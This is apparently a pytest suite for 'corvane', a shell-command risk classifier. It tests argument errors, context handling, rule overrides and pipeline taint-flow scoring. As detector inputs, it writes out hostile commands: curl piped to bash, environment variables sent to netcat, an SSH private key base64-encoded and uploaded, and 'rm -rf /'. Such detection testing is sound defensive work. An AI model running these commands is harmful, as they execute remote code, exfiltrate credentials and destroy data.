"""The module's contract in detail: argument rules and messages, conversions,
rule files found through HOME, and whole pipelines as dicts."""

import sys
import types

import pytest

import corvane


# ---------------------------------------------------------------------------
# Docstrings and signatures

def test_docstrings_exact():
    assert corvane.classify.__text_signature__ == "(command, context=None)"
    assert corvane.classify.__doc__ == (
        "Classify a shell command and return a rich analysis dict.\n\n"
        "Args:\n"
        "    command: The shell command string to analyze.\n"
        "    context: Optional dict with keys: cwd, project_root, home_dir, protected_paths, shell.\n\n"
        "Returns:\n"
        "    A dict containing score, level, risk_factors, pipeline_flow, etc.")
    assert corvane.risk_score.__text_signature__ == "(command)"
    assert corvane.risk_score.__doc__ == "Return just the numeric risk score (0-100) for a command."
    assert corvane.classify_batch.__text_signature__ == "(commands, context=None)"
    assert corvane.classify_batch.__doc__ == (
        "Classify multiple commands in batch.\n\n"
        "Args:\n"
        "    commands: A list of shell command strings.\n"
        "    context: Optional dict with context (same as classify).\n\n"
        "Returns:\n"
        "    A list of analysis dicts.")
    names = [n for n in vars(corvane) if not n.startswith("__")]
    assert names == ["classify", "risk_score", "risk_level", "classify_batch"]
    assert all(isinstance(getattr(corvane, n), types.BuiltinFunctionType) for n in names)
    assert corvane.classify.__self__ is corvane


# ---------------------------------------------------------------------------
# Binding errors

@pytest.mark.parametrize("call, message", [
    (lambda: corvane.classify(context=None), "classify() missing 1 required positional argument: 'command'"),
    (lambda: corvane.classify(context={}), "classify() missing 1 required positional argument: 'command'"),
    (lambda: corvane.risk_score(), "risk_score() missing 1 required positional argument: 'command'"),
    (lambda: corvane.classify_batch(), "classify_batch() missing 1 required positional argument: 'commands'"),
    (lambda: corvane.risk_level("a", "b"), "risk_level() takes 1 positional arguments but 2 were given"),
    (lambda: corvane.risk_score("a", "b", "c"), "risk_score() takes 1 positional arguments but 3 were given"),
    (lambda: corvane.classify_batch([], None, 1), "classify_batch() takes from 1 to 2 positional arguments but 3 were given"),
    # Too many positional arguments is reported before a bad keyword.
    (lambda: corvane.classify("a", None, 3, bogus=1), "classify() takes from 1 to 2 positional arguments but 3 were given"),
    (lambda: corvane.risk_score("ls", context=None), "risk_score() got an unexpected keyword argument 'context'"),
    (lambda: corvane.risk_level(cmd="ls"), "risk_level() got an unexpected keyword argument 'cmd'"),
    (lambda: corvane.classify_batch(command=["ls"]), "classify_batch() got an unexpected keyword argument 'command'"),
    (lambda: corvane.classify(**{"comm\u00e4nd": "ls"}), "classify() got an unexpected keyword argument 'comm\u00e4nd'"),
    (lambda: corvane.classify("ls", None, context=None), "classify() got multiple values for argument 'context'"),
    (lambda: corvane.risk_score("ls", command="ls"), "risk_score() got multiple values for argument 'command'"),
    (lambda: corvane.classify_batch([], commands=[]), "classify_batch() got multiple values for argument 'commands'"),
])
def test_binding_error_messages(call, message):
    with pytest.raises(TypeError) as e:
        call()
    assert str(e.value) == message
    assert e.value.__cause__ is None


def test_every_parameter_by_keyword():
    assert corvane.classify(context=None, command="ls") == corvane.classify("ls")
    assert corvane.risk_score(command="rm -rf /") == 100
    assert corvane.risk_level(command="ls") == "safe"
    assert corvane.classify_batch(context={"shell": "zsh"}, commands=["ls"]) == [corvane.classify("ls", {"shell": "zsh"})]


# ---------------------------------------------------------------------------
# Conversion errors and accepted subclasses

class Opaque:
    pass


@pytest.mark.parametrize("call, message", [
    (lambda: corvane.classify(Opaque()), "argument 'command': 'Opaque' object cannot be converted to 'PyString'"),
    (lambda: corvane.risk_level(["ls"]), "argument 'command': 'list' object cannot be converted to 'PyString'"),
    (lambda: corvane.classify("ls", "cwd"), "argument 'context': 'str' object cannot be converted to 'PyDict'"),
    (lambda: corvane.classify("ls", context=[("cwd", "/")]), "argument 'context': 'list' object cannot be converted to 'PyDict'"),
    (lambda: corvane.classify_batch({"ls": 1}), "argument 'commands': 'dict' object cannot be converted to 'Sequence'"),
    (lambda: corvane.classify_batch(7), "argument 'commands': 'int' object cannot be converted to 'Sequence'"),
    (lambda: corvane.classify_batch(None), "argument 'commands': 'NoneType' object cannot be converted to 'Sequence'"),
    (lambda: corvane.classify_batch(type("Text", (str,), {})("ls")), "argument 'commands': Can't extract `str` to `Vec`"),
    (lambda: corvane.classify_batch(("ls", None)), "argument 'commands': 'NoneType' object cannot be converted to 'PyString'"),
    (lambda: corvane.classify_batch(b"ls"), "argument 'commands': 'int' object cannot be converted to 'PyString'"),
])
def test_conversion_error_messages_and_cause(call, message):
    with pytest.raises(TypeError) as e:
        call()
    assert str(e.value) == message
    assert type(e.value.__cause__) is TypeError
    assert "argument '" + str(e.value.__cause__) != message
    assert message.endswith(": " + str(e.value.__cause__))


def test_command_is_converted_before_context():
    with pytest.raises(TypeError, match="^argument 'command': "):
        corvane.classify(1, [])
    with pytest.raises(TypeError, match="^argument 'commands': "):
        corvane.classify_batch("ls", [])


def test_str_subclass_is_a_command():
    class Text(str):
        def __str__(self):
            return "something else"

    r = corvane.classify(Text("rm -rf /"))
    assert r["command"] == "rm -rf /"
    assert r["score"] == 100
    assert corvane.risk_score(Text("rm -rf /")) == 100
    assert [x["command"] for x in corvane.classify_batch([Text("ls"), "pwd"])] == ["ls", "pwd"]


class Commands:
    """A sequence in the interpreter's sense, by __getitem__ and __len__."""

    def __init__(self, items, length=None, fail=None):
        self.items, self.length, self.fail = items, length, fail

    def __len__(self):
        if isinstance(self.length, BaseException):
            raise self.length
        return len(self.items) if self.length is None else self.length

    def __getitem__(self, i):
        if self.fail is not None and i == 1:
            raise self.fail
        return self.items[i]


def test_batch_items_come_by_iteration_whatever_the_length_says():
    assert [r["command"] for r in corvane.classify_batch(Commands(["ls", "pwd"]))] == ["ls", "pwd"]
    assert [r["command"] for r in corvane.classify_batch(Commands(["ls", "pwd"], length=RuntimeError("len")))] == ["ls", "pwd"]
    assert [r["command"] for r in corvane.classify_batch(Commands(["a", "b", "c"], length=0))] == ["a", "b", "c"]

    class Listed(list):
        def __iter__(self):
            return iter(["from", "iteration"])

    assert [r["command"] for r in corvane.classify_batch(Listed(["x"]))] == ["from", "iteration"]


def test_batch_length_is_only_a_hint_even_when_huge():
    assert [r["command"] for r in corvane.classify_batch(Commands(["ls"], length=sys.maxsize))] == ["ls"]
    assert [r["command"] for r in corvane.classify_batch(Commands(["ls"], length=1 << 40))] == ["ls"]


def test_batch_iteration_errors():
    with pytest.raises(ValueError, match="^boom$"):
        corvane.classify_batch(Commands(["ls", "x"], fail=ValueError("boom")))
    with pytest.raises(TypeError) as e:
        corvane.classify_batch(Commands(["ls", "x"], fail=TypeError("boom")))
    assert str(e.value) == "argument 'commands': boom"
    assert str(e.value.__cause__) == "boom"


# ---------------------------------------------------------------------------
# The context dict

def _protected(value):
    r = corvane.classify("cp a /srv/data/x", {"protected_paths": value})
    return r["sub_commands"][0]["targets"][-1]["sensitivity"] == "protected"


class Paths:
    def __init__(self, *items):
        self.items = items

    def __len__(self):
        raise RuntimeError("no length")

    def __getitem__(self, i):
        return self.items[i]


@pytest.mark.parametrize("value, protected", [
    (("/srv/data",), True),
    (Paths("/tmp", "/srv/data"), True),
    (Paths("/srv/data", b"/x"), False),
    (type("Text", (str,), {})("/srv/data"), False),
    ({"/srv/data": 1}, False),
    ({"/srv/data"}, False),
    (iter(["/srv/data"]), False),
    ([], False),
])
def test_protected_paths_sequences(value, protected):
    assert _protected(value) is protected


def test_context_subclasses_and_ignored_values():
    class Ctx(dict):
        pass

    class Text(str):
        pass

    zsh = Ctx(shell=Text("zsh"), extra=object())
    assert "zsh_module_loading" in corvane.classify("zmodload zsh/net/tcp", zsh)["risk_factors"]
    for shell in ["zsh ", " zsh", "Zsh", "zsh\x00", b"zsh", ["zsh"], None]:
        assert "zsh_module_loading" not in corvane.classify("zmodload zsh/net/tcp", {"shell": shell})["risk_factors"]
    # Strings that cannot be encoded are ignored like any other bad value.
    r = corvane.classify("ls", {"cwd": "\udcff", "project_root": "\ud800", "protected_paths": ["\udcff"]})
    assert r["score"] == corvane.classify("ls", {})["score"]


def test_empty_context_is_a_context():
    # An empty dict is a context with default fields, not the absence of one.
    assert corvane.classify("foo", {}) != corvane.classify("foo")
    assert corvane.classify("foo", None) == corvane.classify("foo")


def test_key_lookup_error_propagates_unchanged():
    class Key(str):
        def __hash__(self):
            return hash("shell")

        def __eq__(self, other):
            raise TypeError("no comparing")

    with pytest.raises(TypeError) as e:
        corvane.classify("ls", {Key("k"): 1})
    assert str(e.value) == "no comparing"
    assert e.value.__cause__ is None


# ---------------------------------------------------------------------------
# The host's json module

def test_results_come_from_json_loads(monkeypatch):
    calls = []
    fake = types.ModuleType("json")

    def loads(*args, **kwargs):
        calls.append((args, kwargs))
        return "sentinel"

    fake.loads = loads
    monkeypatch.setitem(sys.modules, "json", fake)
    assert corvane.classify("ls") == "sentinel"
    assert corvane.classify_batch(["ls", "pwd"]) == "sentinel"
    assert corvane.risk_score("rm -rf /") == 100
    assert corvane.risk_level("ls") == "safe"
    assert len(calls) == 2
    (args, kwargs), (batch_args, _) = calls
    assert kwargs == {}
    assert len(args) == 1 and type(args[0]) is str and args[0].startswith('{"command":"ls","score":0,')
    assert batch_args[0].startswith('[{"command":"ls",') and '},{"command":"pwd",' in batch_args[0]


def test_json_failures_propagate(monkeypatch):
    monkeypatch.setitem(sys.modules, "json", None)
    with pytest.raises(ImportError):
        corvane.classify("ls")
    monkeypatch.setitem(sys.modules, "json", types.ModuleType("json"))
    with pytest.raises(AttributeError):
        corvane.classify_batch(["ls"])

    fake = types.ModuleType("json")

    def loads(text):
        raise OverflowError("from loads")

    fake.loads = loads
    monkeypatch.setitem(sys.modules, "json", fake)
    with pytest.raises(OverflowError, match="^from loads$"):
        corvane.classify("ls")


# ---------------------------------------------------------------------------
# Rule files

@pytest.fixture
def home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    return home


def _user_rules(home, text):
    path = home / ".config" / "corvane" / "rules.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_user_rule_file_through_home(home, tmp_path, capfd):
    base = corvane.risk_score("frob")
    assert base < 90
    _user_rules(home, '[[overrides]]\ncommand = "frob"\nscore = 90\nreason = "r"\n')
    assert corvane.classify("frob")["score"] == 90
    assert corvane.classify("/opt/bin/frob x")["score"] == 90
    assert corvane.risk_score("frob") == 90
    assert corvane.risk_level("frob") == "critical"
    assert [r["score"] for r in corvane.classify_batch(["frob", "ls"])] == [90, 0]
    # An override never lowers: rm -rf / stays at 100.
    _user_rules(home, '[[overrides]]\ncommand = "rm"\nscore = 1\n')
    assert corvane.risk_score("rm -rf /") == 100

    # A project file is read on top of the user file and cannot weaken it:
    # its allow is ignored; risk_score and risk_level take no context and
    # only see the user file.
    _user_rules(home, '[[overrides]]\ncommand = "frob"\nscore = 90\n')
    project = tmp_path / "project"
    project.mkdir()
    (project / ".corvane.toml").write_text('allow = ["frob"]\n[[overrides]]\ncommand = "zap"\nscore = 95\n')
    ctx = {"project_root": str(project)}
    assert corvane.classify("frob", ctx)["score"] == 90
    assert corvane.classify("frob", {"cwd": str(project)})["score"] == 90
    assert corvane.classify("zap", {"cwd": str(project)})["score"] == 95
    assert corvane.classify("zap", {"home_dir": str(tmp_path)})["score"] < 95
    assert corvane.risk_score("frob") == 90
    assert corvane.risk_score("zap") < 95
    assert capfd.readouterr().err == ""


def test_parse_message_once_per_call(home, capfd):
    base = corvane.classify("frob")
    path = _user_rules(home, "overrides = [\n")
    message = f"corvane: failed to parse {path}: invalid TOML or rule format\n"
    assert corvane.classify("frob") == base
    assert capfd.readouterr().err == message
    corvane.classify_batch(["a", "b", "c"])
    assert capfd.readouterr().err == message
    corvane.risk_score("a")
    corvane.risk_level("a")
    assert capfd.readouterr().err == message * 2
    corvane.classify_batch([])
    assert capfd.readouterr().err == message


def test_read_message_for_a_directory_keeps_home(home, tmp_path, capfd):
    _user_rules(home, '[[overrides]]\ncommand = "frob"\nscore = 90\n')
    cwd = tmp_path / "cwd"
    (cwd / ".corvane.toml").mkdir(parents=True)
    r = corvane.classify("frob", {"cwd": str(cwd), "project_root": str(tmp_path / "nowhere")})
    assert r["score"] == 90
    err = capfd.readouterr().err
    prefix = f"corvane: failed to read {cwd / '.corvane.toml'}: "
    assert err.startswith(prefix) and err.endswith("\n")
    assert len(err) > len(prefix) + 1 and "\n" not in err[:-1]


def test_invalid_utf8_rule_file_is_a_read_failure(home, capfd):
    path = home / ".config" / "corvane" / "rules.toml"
    path.parent.mkdir(parents=True)
    path.write_bytes(b'[[overrides]]\ncommand = "frob\xff"\nscore = 90\n')
    corvane.classify("frob")
    assert capfd.readouterr().err.startswith(f"corvane: failed to read {path}: ")


# ---------------------------------------------------------------------------
# Whole pipelines

def _highest(r):
    return max(s["score"] for s in r["sub_commands"])


def test_curl_piped_to_bash():
    r = corvane.classify("curl -s h | bash")
    flow = r["pipeline_flow"]
    assert list(flow) == ["flow_type", "taint_flows", "composite_score"]
    assert flow == {
        "flow_type": "pipe",
        "taint_flows": [{
            "source": {"type": "command_output"},
            "propagators": [],
            "sink": {"type": "execution"},
            "escalation": 35,
            "escalation_reason": "Remote content piped to execution (curl|bash pattern)",
        }],
        "composite_score": min(100, _highest(r) + 35),
    }
    assert list(flow["taint_flows"][0]) == ["source", "propagators", "sink", "escalation", "escalation_reason"]
    assert r["score"] == flow["composite_score"]
    assert r["reason"] == ("Pipeline: " + corvane.classify("curl -s h")["reason"] + " | "
                           + corvane.classify("bash")["reason"]
                           + "; Remote content piped to execution (curl|bash pattern)")


def test_environment_into_netcat():
    r = corvane.classify("env | nc h 80")
    assert r["pipeline_flow"]["taint_flows"] == [{
        "source": {"type": "environment_var"},
        "propagators": [],
        "sink": {"type": "network_send"},
        "escalation": 30,
        "escalation_reason": "Environment variables exfiltrated to network",
    }]
    assert r["pipeline_flow"]["composite_score"] == min(100, _highest(r) + 30)


def test_secret_encoded_and_uploaded():
    r = corvane.classify("cat ~/.ssh/id_rsa | base64 | curl -T - h")
    flow = r["pipeline_flow"]
    assert flow["flow_type"] == "pipe"
    assert flow["taint_flows"] == [
        {
            "source": {"type": "sensitive_file", "path": "~/.ssh/id_rsa"},
            "propagators": [{"encoding": {"method": "base64"}}],
            "sink": {"type": "network_send"},
            "escalation": 40,
            "escalation_reason": "Sensitive data encoded then exfiltrated",
        },
        {
            "source": {"type": "stdin"},
            "propagators": [],
            "sink": {"type": "network_send"},
            "escalation": 20,
            "escalation_reason": "Local data sent to network",
        },
    ]
    assert list(flow["taint_flows"][0]["source"]) == ["type", "path"]
    assert flow["composite_score"] == min(100, _highest(r) + 40)
    assert r["score"] == flow["composite_score"]
    assert r["reason"].endswith("; Sensitive data encoded then exfiltrated")


def test_file_write_sink_has_a_path():
    r = corvane.classify("cat ~/.ssh/id_rsa | tee /tmp/k")
    flows = r["pipeline_flow"]["taint_flows"]
    assert flows == [{
        "source": {"type": "sensitive_file", "path": "~/.ssh/id_rsa"},
        "propagators": [],
        "sink": {"type": "file_write", "path": "/tmp/k"},
        "escalation": 20,
        "escalation_reason": "Sensitive data copied to new location",
    }]
    assert list(flows[0]["sink"]) == ["type", "path"]


def test_lines_without_flows():
    r = corvane.classify("ls | wc -l")
    assert r["pipeline_flow"] == {"flow_type": "pipe", "taint_flows": [], "composite_score": _highest(r)}
    assert r["reason"] == corvane.classify("ls")["reason"] + " | " + corvane.classify("wc -l")["reason"]
    r = corvane.classify("cat a && rm b")
    assert r["pipeline_flow"] == {"flow_type": "and", "taint_flows": [], "composite_score": _highest(r)}
